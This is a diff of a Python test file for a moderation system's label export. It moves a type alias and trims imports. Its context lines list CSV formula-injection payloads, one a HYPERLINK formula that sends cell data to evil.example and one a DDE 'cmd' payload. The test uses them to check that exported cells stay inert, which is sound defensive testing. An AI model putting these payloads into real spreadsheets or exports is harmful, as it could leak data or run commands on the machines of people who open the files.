@@ -8,8 +8,6 @@ from __future__ import annotations
 import csv
 import hashlib
 import json
-from collections.abc import Callable
-from datetime import datetime
 from pathlib import Path
 
 import pytest
@@ -19,9 +17,8 @@ from moderation.models import User
 from moderation.operations.labels import export_write
 from moderation.operations.posts.incoming_post import IncomingAuthor
 from moderation.queries.labels.labels import LabelFilter
-from tests.moderation.conftest import Case_, judge
+from tests.moderation.conftest import Case_, Later, judge
 
-Later = Callable[[float], datetime]
 CELLS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+cmd|' /C calc'!A0",
@@ -74,7 +71,7 @@ def test_no_cell_of_a_csv_runs_and_each_comes_back(decided: None, tmp_path: Path
     assert [json.loads(row["record"])["author"]["display_name"] for row in rows] == CELLS
 
 
-def test_parquet_is_untouched(decided: None, tmp_path: Path, later: Callable[[float], datetime]) -> None:
+def test_parquet_is_untouched(decided: None, tmp_path: Path, later: Later) -> None:
     out = tmp_path / "labels.parquet"
     export_write.write(out=out, wanted=LabelFilter(), at=later(99), form="parquet")
 
